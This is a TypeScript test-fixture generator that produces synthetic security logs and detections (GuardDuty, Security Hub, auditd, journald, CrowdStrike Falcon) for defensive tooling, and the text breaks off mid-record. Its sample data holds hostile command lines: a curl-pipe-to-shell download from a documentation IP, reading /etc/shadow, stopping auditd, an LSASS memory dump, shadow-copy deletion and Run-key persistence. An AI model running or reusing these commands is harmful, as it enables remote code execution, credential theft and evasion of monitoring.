/**
 * Seeded generators for the sources generators.ts does not cover: GuardDuty
 * and Security Hub findings in their EventBridge envelopes, Route 53 Resolver
 * query logs, Linux auditd lines and journald entries, CrowdStrike Falcon
 * stream detections, Microsoft Graph security alerts (v2), VPC Flow Logs in
 * a custom (v5) format, and records for a declarative mapping. Written here
 * from the vendors' documented formats, shaped like the team's fixtures under
 * test/fixtures/sources/; nothing copied from elsewhere. Same seed, same
 * output.
 */
import { eventBridgeEvent, Rng } from './generators';

const BASE_TIME = Date.UTC(2026, 2, 2, 9, 0, 0);
const ACCOUNTS = ['111122223333', '444455556666', '777788889999', '210987654321'];
const REGIONS = ['us-east-1', 'us-east-2', 'us-west-2', 'eu-west-1', 'eu-central-1', 'ap-southeast-2'];
const USERS = ['alice', 'bob', 'carol', 'dave', 'eve', 'deploy', 'ops-admin', 'backup-svc', 'ci-runner'];
const HOSTS = ['web-01', 'web-02', 'db-01', 'bastion-1', 'worker-07', 'build-03', 'ingest-2'];

function isObj(v: unknown): v is Record<string, unknown> {
  return typeof v === 'object' && v !== null && !Array.isArray(v);
}

function publicIp(r: Rng): string {
  return `${r.pick([198, 203, 192, 185, 45, 91])}.${r.int(0, 255)}.${r.int(0, 255)}.${r.int(1, 254)}`;
}

function privateIp(r: Rng): string {
  return `10.${r.int(0, 15)}.${r.int(0, 255)}.${r.int(2, 250)}`;
}

/** ISO 8601 with milliseconds, as AWS writes finding times. */
function isoMs(ms: number): string {
  return new Date(ms).toISOString();
}

/** ISO 8601 to the second, as EventBridge writes its `time`. */
function isoS(ms: number): string {
  return new Date(ms).toISOString().replace(/\.\d{3}Z$/, 'Z');
}

// ---------------------------------------------------------------- GuardDuty

const GD_TYPES = [
  ['UnauthorizedAccess:EC2/SSHBruteForce', 'network', 2],
  ['Recon:EC2/PortProbeUnprotectedPort', 'probe', 2],
  ['Recon:IAMUser/MaliciousIPCaller', 'api', 5],
  ['UnauthorizedAccess:IAMUser/InstanceCredentialExfiltration.OutsideAWS', 'api', 8],
  ['CryptoCurrency:EC2/BitcoinTool.B!DNS', 'dns', 8],
  ['Trojan:EC2/DNSDataExfiltration', 'dns', 8],
  ['Policy:S3/BucketBlockPublicAccessDisabled', 's3', 2],
  ['Backdoor:EC2/C&CActivity.B', 'network', 8],
  ['Impact:IAMUser/AnomalousBehavior', 'api', 5],
] as const;

function instanceDetails(r: Rng, region: string, account: string): Record<string, unknown> {
  const id = `i-0${r.hex(16)}`;
  return {
    resourceType: 'Instance',
    instanceDetails: {
      instanceId: id,
      instanceType: r.pick(['t3.medium', 'm5.large', 'c6g.xlarge', 't4g.small']),
      launchTime: isoMs(BASE_TIME - r.int(1, 90) * 86_400_000),
      platform: null,
      availabilityZone: `${region}${r.pick(['a', 'b', 'c'])}`,
      imageId: `ami-0${r.hex(16)}`,
      instanceState: 'running',
      networkInterfaces: [
        {
          networkInterfaceId: `eni-0${r.hex(16)}`,
          privateIpAddress: privateIp(r),
          publicIp: r.chance(0.6) ? publicIp(r) : undefined,
          subnetId: `subnet-0${r.hex(16)}`,
          vpcId: `vpc-0${r.hex(16)}`,
          securityGroups: [{ groupId: `sg-0${r.hex(16)}`, groupName: r.pick(['bastion', 'web', 'default', 'workers']) }],
        },
      ],
      iamInstanceProfile: r.chance(0.5) ? { arn: `arn:aws:iam::${account}:instance-profile/${r.pick(['web', 'worker'])}`, id: `AIPA${r.upper(17)}` } : undefined,
      tags: [{ key: 'Name', value: `${r.pick(HOSTS)}` }],
    },
  };
}

function remoteIpDetails(r: Rng): Record<string, unknown> {
  return {
    ipAddressV4: publicIp(r),
    organization: { asn: String(r.int(1000, 65000)), asnOrg: r.pick(['EXAMPLE-NET', 'HOSTING-CO', 'TRANSIT-1']), isp: 'Example ISP', org: 'Example Org' },
    country: { countryName: r.pick(['Netherlands', 'Germany', 'Brazil', 'Singapore', 'United States']) },
    city: { cityName: r.pick(['Amsterdam', 'Frankfurt', 'São Paulo', 'Singapore', 'Ashburn']) },
    geoLocation: { lat: r.int(-60, 60) + 0.37, lon: r.int(-120, 120) + 0.89 },
  };
}

/** A GuardDuty finding as GetFindings and EventBridge write it (the envelope's `detail`). */
export function guardDutyFinding(r: Rng, i: number): Record<string, unknown> {
  const [type, kind, baseSeverity] = r.pick(GD_TYPES);
  const account = r.pick(ACCOUNTS);
  const region = r.pick(REGIONS);
  const id = r.hex(32);
  const detector = r.hex(32);
  const created = BASE_TIME + i * 311 + r.int(0, 999);
  const updated = r.chance(0.4) ? created : created + r.int(1, 3_600_000);
  const user = r.pick(USERS);
  let resource: Record<string, unknown>;
  let action: Record<string, unknown>;
  switch (kind) {
    case 'network':
      resource = instanceDetails(r, region, account);
      action = {
        actionType: 'NETWORK_CONNECTION',
        networkConnectionAction: {
          connectionDirection: r.pick(['INBOUND', 'OUTBOUND']),
          remoteIpDetails: remoteIpDetails(r),
          remotePortDetails: { port: r.int(1024, 65535), portName: 'Unknown' },
          localPortDetails: { port: r.pick([22, 443, 3389, 80]), portName: r.pick(['SSH', 'HTTPS', 'RDP', 'HTTP']) },
          protocol: 'TCP',
          blocked: false,
          localIpDetails: { ipAddressV4: privateIp(r) },
        },
      };
      break;
    case 'probe':
      resource = instanceDetails(r, region, account);
      action = {
        actionType: 'PORT_PROBE',
        portProbeAction: {
          blocked: false,
          portProbeDetails: Array.from({ length: r.int(1, 3) }, () => ({
            localPortDetails: { port: r.pick([22, 3389, 5432, 6379]), portName: 'Unknown' },
            localIpDetails: { ipAddressV4: privateIp(r) },
            remoteIpDetails: remoteIpDetails(r),
          })),
        },
      };
      break;
    case 'dns':
      resource = instanceDetails(r, region, account);
      action = { actionType: 'DNS_REQUEST', dnsRequestAction: { domain: `${r.hex(10)}.${r.pick(['pool.example.net', 'xmr.example.org', 'tunnel.example.com'])}`, protocol: 'UDP', blocked: false } };
      break;
    case 's3':
      resource = {
        resourceType: 'S3Bucket',
        accessKeyDetails: { accessKeyId: `ASIA${r.upper(16)}`, principalId: `AROA${r.upper(17)}:${user}`, userName: user, userType: 'AssumedRole' },
        s3BucketDetails: [{ arn: `arn:aws:s3:::${r.pick(['logs', 'data', 'exports'])}-${r.hex(6)}`, name: `bucket-${r.hex(6)}`, type: 'Destination', createdAt: isoMs(BASE_TIME - 86_400_000 * 200), owner: { id: r.hex(64) } }],
      };
      action = {
        actionType: 'AWS_API_CALL',
        awsApiCallAction: { api: 'PutBucketPublicAccessBlock', serviceName: 's3.amazonaws.com', callerType: 'Remote IP', remoteIpDetails: remoteIpDetails(r), affectedResources: {} },
      };
      break;
    default:
      resource = {
        resourceType: 'AccessKey',
        accessKeyDetails: { accessKeyId: `${r.pick(['AKIA', 'ASIA'])}${r.upper(16)}`, principalId: `AIDA${r.upper(17)}`, userName: user, userType: r.pick(['IAMUser', 'AssumedRole']) },
      };
      action = {
        actionType: 'AWS_API_CALL',
        awsApiCallAction: {
          api: r.pick(['ListBuckets', 'GetCallerIdentity', 'DescribeInstances', 'ListUsers', 'GetSecretValue']),
          serviceName: r.pick(['s3.amazonaws.com', 'sts.amazonaws.com', 'ec2.amazonaws.com', 'iam.amazonaws.com']),
          callerType: 'Remote IP',
          remoteIpDetails: remoteIpDetails(r),
          userAgent: r.pick(['aws-cli/2.15.30 Python/3.11.8 Linux/6.5.0', 'Boto3/1.34.144 md/Botocore#1.34.144', 'kali-linux pacu/1.5.2']),
          errorCode: r.chance(0.3) ? 'AccessDenied' : undefined,
        },
      };
  }
  const target = isObj(resource.instanceDetails) ? String(resource.instanceDetails.instanceId) : user;
  const severity = baseSeverity + r.int(0, 9) / 10;
  return {
    schemaVersion: '2.0',
    accountId: account,
    region,
    partition: 'aws',
    id,
    arn: `arn:aws:guardduty:${region}:${account}:detector/${detector}/finding/${id}`,
    type,
    resource,
    service: {
      serviceName: 'guardduty',
      detectorId: detector,
      action,
      resourceRole: r.pick(['TARGET', 'ACTOR']),
      additionalInfo: { value: r.chance(0.5) ? '{}' : `{"threatListName":"${r.pick(['ProofPoint', 'CrowdStrike', 'Amazon'])}"}`, type: 'default' },
      eventFirstSeen: isoMs(created - r.int(0, 3_600_000)),
      eventLastSeen: isoMs(updated),
      archived: r.chance(0.05),
      count: r.int(1, 40),
    },
    severity,
    createdAt: isoMs(created),
    updatedAt: isoMs(updated),
    title: `${type.split('/')[0]} activity involving ${target}.`,
    description: `GuardDuty observed ${type} activity involving ${target} in ${region}. Investigate the resource and the remote party.`,
  };
}

/** The EventBridge event GuardDuty puts on the default bus ("GuardDuty Finding"), one per SQS message. */
export function guardDutyEnvelope(r: Rng, i: number): Record<string, unknown> {
  const detail = guardDutyFinding(r, i);
  return eventBridgeEvent(r, {
    detailType: 'GuardDuty Finding',
    source: 'aws.guardduty',
    account: detail.accountId,
    time: isoS(Date.parse(detail.updatedAt as string)),
    region: detail.region,
    detail,
  });
}

// ---------------------------------------------------------------- Security Hub (ASFF)

const CONTROLS = [
  ['S3.8', 'S3 general purpose buckets should block public access', 'AwsS3Bucket', 'HIGH'],
  ['IAM.6', 'Hardware MFA should be enabled for the root user', 'AwsAccount', 'CRITICAL'],
  ['EC2.19', 'Security groups should not allow unrestricted access to ports with high risk', 'AwsEc2SecurityGroup', 'CRITICAL'],
  ['CloudTrail.1', 'CloudTrail should be enabled and configured with at least one multi-Region trail', 'AwsAccount', 'HIGH'],
  ['KMS.4', 'AWS KMS key rotation should be enabled', 'AwsKmsKey', 'MEDIUM'],
  ['Lambda.2', 'Lambda functions should use supported runtimes', 'AwsLambdaFunction', 'MEDIUM'],
  ['RDS.3', 'RDS DB instances should have encryption at-rest enabled', 'AwsRdsDbInstance', 'MEDIUM'],
  ['EC2.2', 'VPC default security groups should not allow inbound or outbound traffic', 'AwsEc2SecurityGroup', 'HIGH'],
] as const;

/** An ASFF finding: a security control check (Compliance) or a product's detection (GuardDuty, Inspector, Macie). */
export function asffFinding(r: Rng, i: number): Record<string, unknown> {
  const account = r.pick(ACCOUNTS);
  const region = r.pick(REGIONS);
  const created = BASE_TIME - r.int(0, 5) * 86_400_000 + i * 173;
  const updated = r.chance(0.3) ? created : created + r.int(1, 7_200_000);
  const workflow = r.pick(['NEW', 'NEW', 'NEW', 'NOTIFIED', 'RESOLVED', 'SUPPRESSED']);
  const record = r.chance(0.1) ? 'ARCHIVED' : 'ACTIVE';
  if (r.chance(0.6)) {
    const [control, title, rtype, label] = r.pick(CONTROLS);
    const uuid = r.uuid();
    const id = `arn:aws:securityhub:${region}:${account}:security-control/${control}/finding/${uuid}`;
    const status = r.pick(['FAILED', 'FAILED', 'PASSED', 'WARNING', 'NOT_AVAILABLE']);
    return {
      SchemaVersion: '2018-10-08',
      Id: id,
      ProductArn: `arn:aws:securityhub:${region}::product/aws/securityhub`,
      ProductName: 'Security Hub',
      CompanyName: 'AWS',
      Region: region,
      GeneratorId: `security-control/${control}`,
      AwsAccountId: account,
      Types: ['Software and Configuration Checks/Industry and Regulatory Standards'],
      FirstObservedAt: isoMs(created),
      LastObservedAt: isoMs(updated),
      CreatedAt: isoMs(created),
      UpdatedAt: isoMs(updated),
      Severity: { Label: status === 'PASSED' ? 'INFORMATIONAL' : label, Normalized: status === 'PASSED' ? 0 : label === 'CRITICAL' ? 90 : label === 'HIGH' ? 70 : 40, Original: label },
      Title: title,
      Description: `This control checks whether ${title.toLowerCase()}. The control fails when it is not.`,
      Remediation: { Recommendation: { Text: 'For information on how to correct this issue, consult the AWS Security Hub controls documentation.', Url: `https://docs.aws.amazon.com/console/securityhub/${control}/remediation` } },
      ProductFields: {
        'RelatedAWSResources:0/name': `securityhub-${control.toLowerCase().replace('.', '-')}-${r.hex(8)}`,
        'RelatedAWSResources:0/type': 'AWS::Config::ConfigRule',
        'aws/securityhub/ProductName': 'Security Hub',
        'aws/securityhub/CompanyName': 'AWS',
        'aws/securityhub/FindingId': `arn:aws:securityhub:${region}::product/aws/securityhub/${id}`,
      },
      Resources: [
        {
          Type: rtype,
          Id: rtype === 'AwsS3Bucket' ? `arn:aws:s3:::${r.pick(['exports', 'logs', 'web'])}-${r.hex(6)}` : rtype === 'AwsAccount' ? `AWS::::Account:${account}` : `arn:aws:${rtype.slice(3).toLowerCase()}:${region}:${account}:${r.hex(12)}`,
          Partition: 'aws',
          Region: region,
          Tags: r.chance(0.5) ? { team: r.pick(['data', 'web', 'platform']), env: r.pick(['prod', 'dev']) } : undefined,
        },
      ],
      Compliance: {
        Status: status,
        SecurityControlId: control,
        AssociatedStandards: [{ StandardsId: 'standards/aws-foundational-security-best-practices/v/1.0.0' }, ...(r.chance(0.5) ? [{ StandardsId: 'standards/cis-aws-foundations-benchmark/v/3.0.0' }] : [])],
        RelatedRequirements: ['NIST.800-53.r5 AC-3', `CIS AWS Foundations Benchmark v3.0.0/${r.int(1, 5)}.${r.int(1, 12)}`],
        StatusReasons: status === 'FAILED' && r.chance(0.5) ? [{ ReasonCode: 'CONFIG_EVALUATIONS_EMPTY', Description: 'AWS Config evaluated your resources against the rule and found them non-compliant.' }] : undefined,
      },
      WorkflowState: workflow,
      Workflow: { Status: workflow },
      RecordState: record,
      FindingProviderFields: { Severity: { Label: label, Original: label }, Types: ['Software and Configuration Checks/Industry and Regulatory Standards'] },
      ProcessedAt: isoMs(updated + 2000),
    };
  }
  const product = r.pick(['GuardDuty', 'Inspector', 'Macie'] as const);
  const gd = guardDutyFinding(r, i);
  const label = r.pick(['LOW', 'MEDIUM', 'HIGH', 'CRITICAL']);
  const productPath = product === 'GuardDuty' ? 'aws/guardduty' : product === 'Inspector' ? 'aws/inspector' : 'aws/macie';
  return {
    SchemaVersion: '2018-10-08',
    Id: product === 'GuardDuty' ? gd.arn : `arn:aws:${product.toLowerCase()}2:${region}:${account}:finding/${r.hex(32)}`,
    ProductArn: `arn:aws:securityhub:${region}::product/${productPath}`,
    ProductName: product,
    CompanyName: 'Amazon',
    Region: region,
    GeneratorId: product === 'GuardDuty' ? `arn:aws:guardduty:${region}:${account}:detector/${r.hex(32)}` : `${product.toLowerCase()}-${r.hex(8)}`,
    AwsAccountId: account,
    Types: [product === 'GuardDuty' ? `TTPs/${r.pick(['Initial Access', 'Discovery', 'Exfiltration'])}/${String(gd.type).replace('/', '-')}` : r.pick(['Software and Configuration Checks/Vulnerabilities/CVE', 'Sensitive Data Identifications/PII'])],
    FirstObservedAt: isoMs(created),
    LastObservedAt: isoMs(updated),
    CreatedAt: isoMs(created),
    UpdatedAt: isoMs(updated),
    Severity: { Label: label, Normalized: label === 'CRITICAL' ? 90 : label === 'HIGH' ? 70 : label === 'MEDIUM' ? 40 : 20, Product: r.int(1, 9) },
    Title: String(gd.title),
    Description: String(gd.description),
    SourceUrl: `https://${region}.console.aws.amazon.com/${product.toLowerCase()}/home?region=${region}#/findings?search=id%3D${r.hex(32)}`,
    ProductFields: { [`${productPath}/service/archived`]: 'false', [`${productPath}/service/count`]: String(r.int(1, 40)) },
    Resources: [{ Type: 'AwsEc2Instance', Id: `arn:aws:ec2:${region}:${account}:instance/i-0${r.hex(16)}`, Partition: 'aws', Region: region }],
    WorkflowState: workflow,
    Workflow: { Status: workflow },
    RecordState: record,
  };
}

/** The EventBridge event Security Hub puts on the default bus ("Security Hub Findings - Imported"), one finding, one SQS message. */
export function securityHubEnvelope(r: Rng, i: number): Record<string, unknown> {
  const f = asffFinding(r, i);
  return eventBridgeEvent(r, {
    detailType: 'Security Hub Findings - Imported',
    source: 'aws.securityhub',
    account: f.AwsAccountId,
    time: isoS(Date.parse(f.UpdatedAt as string) + 3000),
    region: f.Region,
    resources: [`arn:aws:securityhub:${String(f.Region)}::product/aws/securityhub/${String(f.Id)}`],
    detail: { findings: [f] },
  });
}

// ---------------------------------------------------------------- Route 53 Resolver

const DNS_NAMES = ['updates.example.com.', 'api.example.org.', 'login.example.net.', 's3.us-east-1.amazonaws.com.', 'sts.amazonaws.com.', 'db.internal.example.', 'metrics.example.com.'];

/** One Route 53 Resolver query log record (S3, CloudWatch Logs and Firehose write the same JSON). */
export function resolverQuery(r: Rng, i: number): Record<string, unknown> {
  const nx = r.chance(0.1);
  const type = r.pick(['A', 'A', 'A', 'AAAA', 'CNAME', 'TXT', 'PTR', 'MX']);
  const name = r.chance(0.05) ? `${r.hex(20)}.${r.pick(['tunnel.example.net.', 'c2.malicious.example.'])}` : nx ? `no-such-${r.hex(4)}.internal.example.` : r.pick(DNS_NAMES);
  const firewall = r.chance(0.04) ? r.pick(['BLOCK', 'ALERT', 'ALLOW']) : undefined;
  const answers = nx || type === 'TXT' ? [] : Array.from({ length: r.int(1, 3) }, () => ({ Rdata: type === 'AAAA' ? `2001:db8::${r.hex(4)}` : type === 'CNAME' ? `edge-${r.hex(4)}.example.net.` : `192.0.2.${r.int(1, 254)}`, Type: type, Class: 'IN' }));
  const rec: Record<string, unknown> = {
    version: '1.100000',
    account_id: r.pick(ACCOUNTS),
    region: r.pick(REGIONS),
    vpc_id: `vpc-0${r.hex(16)}`,
    query_timestamp: isoS(BASE_TIME + i * 53 + r.int(0, 999)),
    query_name: name,
    query_type: type,
    query_class: 'IN',
    rcode: nx ? 'NXDOMAIN' : r.chance(0.02) ? 'SERVFAIL' : 'NOERROR',
    answers,
    srcaddr: privateIp(r),
    srcport: String(r.int(1024, 65535)),
    transport: r.chance(0.9) ? 'UDP' : 'TCP',
    srcids: r.chance(0.15) ? { instance: `i-0${r.hex(16)}`, resolver_endpoint: `rslvr-in-${r.hex(17)}`, resolver_network_interface: `rni-${r.hex(17)}` } : { instance: `i-0${r.hex(16)}` },
  };
  if (firewall) {
    rec.firewall_rule_action = firewall;
    rec.firewall_rule_group_id = `rslvr-frg-${r.hex(16)}`;
    rec.firewall_domain_list_id = `rslvr-fdl-${r.hex(16)}`;
  }
  return rec;
}

// ---------------------------------------------------------------- Linux auditd

function auditHex(s: string): string {
  return Buffer.from(s, 'utf8').toString('hex').toUpperCase();
}

/** auditd writes a value quoted when it is plain and as bare hex when it holds spaces, quotes or control characters. */
function auditValue(s: string): string {
  return /^[\x21-\x7e]*$/.test(s) && !s.includes('"') ? `"${s}"` : auditHex(s);
}

const COMMANDS: ReadonlyArray<readonly string[]> = [
  ['/usr/bin/bash', 'bash', '-c', 'curl -s http://198.51.100.80/x.sh | sh'],
  ['/usr/bin/ls', 'ls', '-la', '/tmp'],
  ['/usr/bin/python3', 'python3', '/opt/app/worker.py', '--queue', 'default'],
  ['/usr/bin/systemctl', 'systemctl', 'restart', 'nginx'],
  ['/usr/bin/id', 'id'],
  ['/usr/bin/cat', 'cat', '/etc/shadow'],
  ['/usr/bin/crontab', 'crontab', '-l'],
  ['/usr/bin/tar', 'tar', 'czf', '/tmp/backup.tgz', '/var/www'],
];

/**
 * The lines auditd writes for one event (audit.log text): an execve
 * (SYSCALL, EXECVE, CWD, PATH, PROCTITLE sharing a serial, ENRICHED fields
 * after 0x1d on the SYSCALL line), or a user-space record (login,
 * authentication, account change) with its `msg='…'` payload.
 */
export function auditdEventLines(r: Rng, i: number): string[] {
  const t = Math.floor(BASE_TIME / 1000) + Math.floor(i / 4);
  const stamp = `audit(${t}.${String(r.int(0, 999)).padStart(3, '0')}:${30000 + i})`;
  const host = r.pick(HOSTS);
  const pid = r.int(1000, 60000);
  const uid = r.pick([0, 1000, 1001, 1002]);
  const auid = r.chance(0.2) ? 4294967295 : r.pick([1000, 1001, 1002]);
  if (r.chance(0.7)) {
    const [exe, ...argv] = r.pick(COMMANDS);
    const comm = exe.slice(exe.lastIndexOf('/') + 1);
    const key = r.pick(['exec_log', 'susp_activity', '(null)']);
    const syscall =
      `type=SYSCALL msg=${stamp}: arch=c000003e syscall=59 success=yes exit=0 a0=${r.hex(12)} a1=${r.hex(12)} a2=${r.hex(12)} a3=${r.hex(12)} items=2 ` +
      `ppid=${r.int(1000, 60000)} pid=${pid} auid=${auid} uid=${uid} gid=${uid} euid=${uid} suid=${uid} fsuid=${uid} egid=${uid} sgid=${uid} fsgid=${uid} tty=pts${r.int(0, 4)} ses=${r.int(1, 40)} ` +
      `comm="${comm}" exe="${exe}" subj=unconfined key=${key === '(null)' ? key : `"${key}"`}\x1dARCH=x86_64 SYSCALL=execve AUID="${auid === 4294967295 ? 'unset' : r.pick(USERS)}" UID="${uid === 0 ? 'root' : r.pick(USERS)}" GID="${uid === 0 ? 'root' : 'users'}"`;
    const args = argv.map((a, k) => `a${k}=${auditValue(a)}`).join(' ');
    const cwd = r.pick(['/tmp', '/home/deploy', '/var/www', '/']);
    return [
      syscall,
      `type=EXECVE msg=${stamp}: argc=${argv.length} ${args}`,
      `type=CWD msg=${stamp}: cwd=${auditValue(cwd)}`,
      `type=PATH msg=${stamp}: item=0 name="${exe}" inode=${r.int(1000, 900000)} dev=fd:01 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0`,
      `type=PROCTITLE msg=${stamp}: proctitle=${auditHex(argv.join('\0'))}`,
    ];
  }
  const kind = r.pick(['USER_LOGIN', 'USER_AUTH', 'USER_START', 'USER_END', 'USER_LOGOUT', 'ADD_USER', 'USER_CHAUTHTOK', 'USER_ERR', 'CRED_ACQ'] as const);
  const ok = r.chance(0.8);
  const acct = r.chance(0.1) ? 'root' : r.pick(USERS);
  const addr = r.chance(0.6) ? publicIp(r) : '?';
  const exe = kind === 'ADD_USER' ? '/usr/sbin/useradd' : kind === 'USER_CHAUTHTOK' ? '/usr/bin/passwd' : r.pick(['/usr/sbin/sshd', '/usr/bin/sudo', '/usr/bin/login']);
  const op = kind === 'ADD_USER' ? `op=add-user id=${r.int(1003, 1100)}` : kind === 'USER_CHAUTHTOK' ? 'op=PAM:chauthtok' : kind === 'USER_LOGIN' ? 'op=login' : 'op=PAM:authentication';
  const acctField = kind === 'ADD_USER' ? '' : ` acct="${acct}"`;
  return [
    `type=${kind} msg=${stamp}: pid=${pid} uid=0 auid=${auid} ses=${r.int(1, 40)} subj=unconfined msg='${op}${acctField} exe="${exe}" hostname=${addr === '?' ? host : '?'} addr=${addr} terminal=${r.pick(['ssh', 'pts/1', '/dev/tty1'])} res=${ok ? 'success' : 'failed'}'`,
  ];
}

// ---------------------------------------------------------------- Linux journald

/** One `journalctl -o json` entry: sshd logins and failures, sudo commands, PAM sessions, cron, kernel messages. */
export function journalEntry(r: Rng, i: number): Record<string, unknown> {
  const usec = (BASE_TIME + i * 71) * 1000 + r.int(0, 999_999);
  const host = r.pick(HOSTS);
  const pid = String(r.int(300, 60000));
  const user = r.pick(USERS);
  const ip = publicIp(r);
  const boot = r.hex(32);
  const base: Record<string, unknown> = {
    __CURSOR: `s=${r.hex(32)};i=${(0x1a2b3 + i).toString(16)};b=${boot};m=${r.hex(8)};t=${usec.toString(16)};x=${r.hex(16)}`,
    __REALTIME_TIMESTAMP: String(usec),
    __MONOTONIC_TIMESTAMP: String(r.int(1_000_000, 9_000_000_000)),
    _BOOT_ID: boot,
  };
  const kind = r.skewed(['sshd', 'sudo', 'pam', 'cron', 'kernel', 'systemd', 'sshd-invalid'] as const);
  let ident: string;
  let message: string;
  let priority = '6';
  let comm: string;
  let exe: string;
  switch (kind) {
    case 'sshd':
      ident = 'sshd';
      comm = 'sshd';
      exe = '/usr/sbin/sshd';
      message = r.chance(0.7)
        ? `Accepted ${r.pick(['publickey', 'password', 'keyboard-interactive/pam'])} for ${user} from ${ip} port ${r.int(1024, 65535)} ssh2${r.chance(0.5) ? `: ED25519 SHA256:${r.hex(43)}` : ''}`
        : `Failed password for ${r.chance(0.5) ? 'invalid user ' : ''}${r.pick(['oracle', 'admin', user, 'test'])} from ${ip} port ${r.int(1024, 65535)} ssh2`;
      break;
    case 'sshd-invalid':
      ident = 'sshd';
      comm = 'sshd';
      exe = '/usr/sbin/sshd';
      message = `Invalid user ${r.pick(['oracle', 'admin', 'ubnt', 'pi'])} from ${ip} port ${r.int(1024, 65535)}`;
      priority = '5';
      break;
    case 'sudo':
      ident = 'sudo';
      comm = 'sudo';
      exe = '/usr/bin/sudo';
      message = `  ${user} : TTY=pts/${r.int(0, 4)} ; PWD=/home/${user} ; USER=root ; COMMAND=${r.pick(['/usr/bin/systemctl stop auditd', '/usr/bin/apt-get upgrade -y', '/usr/bin/cat /etc/shadow', '/usr/sbin/iptables -F'])}`;
      priority = '5';
      break;
    case 'pam':
      ident = r.pick(['sudo', 'sshd', 'su', 'systemd-logind']);
      comm = ident;
      exe = `/usr/bin/${ident}`;
      message = `pam_unix(${ident}:session): session ${r.pick(['opened', 'closed'])} for user ${r.pick(['root', user])}(uid=${r.int(0, 1002)})${r.chance(0.5) ? ` by ${user}(uid=${r.int(1000, 1002)})` : ''}`;
      break;
    case 'cron':
      ident = 'CRON';
      comm = 'cron';
      exe = '/usr/sbin/cron';
      message = `(${user}) CMD (${r.pick(['/opt/backup.sh', 'run-parts /etc/cron.hourly', 'certbot renew -q'])})`;
      break;
    case 'kernel':
      ident = 'kernel';
      comm = 'kernel';
      exe = '';
      message = r.pick(['Out of memory: Killed process 3111 (java) total-vm:8123456kB', `[UFW BLOCK] IN=eth0 OUT= SRC=${ip} DST=10.0.4.12 PROTO=TCP DPT=23`, 'EXT4-fs (nvme0n1p1): re-mounted. Opts: (null)']);
      priority = r.pick(['3', '4', '6']);
      break;
    default:
      ident = 'systemd';
      comm = 'systemd';
      exe = '/usr/lib/systemd/systemd';
      message = `${r.pick(['Started', 'Stopped', 'Reloaded'])} ${r.pick(['nginx.service', 'ssh.service', 'docker.service', 'Daily apt upgrade and clean activities'])}.`;
  }
  const rec: Record<string, unknown> = { ...base, PRIORITY: priority, SYSLOG_FACILITY: kind === 'kernel' ? '0' : r.pick(['4', '10', '3']), SYSLOG_IDENTIFIER: ident };
  if (kind !== 'kernel') {
    rec._PID = pid;
    rec._UID = kind === 'sudo' ? String(r.int(1000, 1002)) : '0';
    rec._GID = '0';
    rec._COMM = comm;
    rec._EXE = exe;
    rec._CMDLINE = kind === 'sshd' ? `sshd: ${user} [priv]` : comm;
    rec._SYSTEMD_UNIT = `${comm}.service`;
  }
  rec._TRANSPORT = kind === 'kernel' ? 'kernel' : 'syslog';
  rec._HOSTNAME = host;
  rec._MACHINE_ID = r.hex(32);
  rec.MESSAGE = message;
  return rec;
}

// ---------------------------------------------------------------- CrowdStrike Falcon

const FALCON_DETECTIONS = [
  ['Suspicious Activity', 'A script interpreter launched an encoded command line from an Office document.', 'Execution', 'TA0002', 'PowerShell', 'T1059.001', 'Follow Through', 'powershell.exe', '\\Device\\HarddiskVolume3\\Windows\\System32\\WindowsPowerShell\\v1.0'],
  ['Credential Theft', 'A process attempted to access LSASS memory.', 'Credential Access', 'TA0006', 'OS Credential Dumping', 'T1003', 'Gain Access', 'rundll32.exe', '\\Device\\HarddiskVolume2\\Windows\\System32'],
  ['Malicious Document', 'An Office application wrote and launched an executable.', 'Initial Access', 'TA0001', 'Spearphishing Attachment', 'T1566.001', 'Gain Access', 'upd4te.exe', '\\Device\\HarddiskVolume3\\Users\\alice\\AppData\\Local\\Temp'],
  ['Persistence', 'A process added a Run key pointing to a user-writable folder.', 'Persistence', 'TA0003', 'Registry Run Keys / Startup Folder', 'T1547.001', 'Keep Access', 'reg.exe', '\\Device\\HarddiskVolume3\\Windows\\System32'],
  ['Ransomware', 'A process deleted volume shadow copies.', 'Impact', 'TA0040', 'Inhibit System Recovery', 'T1490', 'Cause Harm', 'vssadmin.exe', '\\Device\\HarddiskVolume3\\Windows\\System32'],
] as const;

/** A Falcon Event Streams DetectionSummaryEvent (`{"metadata":…,"event":…}`). */
export function falconDetection(r: Rng, i: number): Record<string, unknown> {
  const [name, desc, tactic, tacticId, technique, techniqueId, objective, file, path] = r.pick(FALCON_DETECTIONS);
  const created = BASE_TIME + i * 997 + r.int(0, 999);
  const sensor = r.hex(32);
  const pid = r.int(10_000_000_000, 99_999_999_999);
  const sev = r.int(1, 5);
  const host = `${r.pick(['WS', 'SRV', 'LT'])}-${String(r.int(1, 400)).padStart(3, '0')}`;
  return {
    metadata: { customerIDString: r.hex(32), offset: 1_048_576 + i, eventType: r.chance(0.8) ? 'DetectionSummaryEvent' : 'EppDetectionSummaryEvent', eventCreationTime: created, version: '1.0' },
    event: {
      ProcessStartTime: Math.floor(created / 1000) - r.int(1, 600),
      ProcessEndTime: 0,
      ProcessId: pid,
      ParentProcessId: pid - r.int(1, 99999),
      ComputerName: host,
      UserName: r.chance(0.2) ? 'NT AUTHORITY\\SYSTEM' : r.pick(USERS),
      DetectName: name,
      DetectDescription: desc,
      Severity: sev,
      SeverityName: ['Informational', 'Low', 'Medium', 'High', 'Critical'][sev - 1],
      FileName: file,
      FilePath: path,
      CommandLine: `${file} ${r.pick(['-NoProfile -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=', 'C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Windows\\Temp\\lsass.dmp full', 'delete shadows /all /quiet', 'add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v upd /d C:\\Users\\Public\\u.exe'])}`,
      SHA256String: r.hex(64),
      MD5String: r.hex(32),
      SHA1String: r.chance(0.5) ? '0000000000000000000000000000000000000000' : r.hex(40),
      MachineDomain: 'CORP',
      DetectId: `ldt:${sensor.slice(0, 16)}:${pid}`,
      FalconHostLink: `https://falcon.crowdstrike.com/activity/detections/detail/${sensor.slice(0, 16)}/${pid}`,
      SensorId: sensor,
      IOCType: r.pick(['hash_sha256', 'behavior', 'command_line']),
      IOCValue: r.hex(64),
      Tactic: tactic,
      TacticId: tacticId,
      Technique: technique,
      TechniqueId: techniqueId,
      Objective: objective,
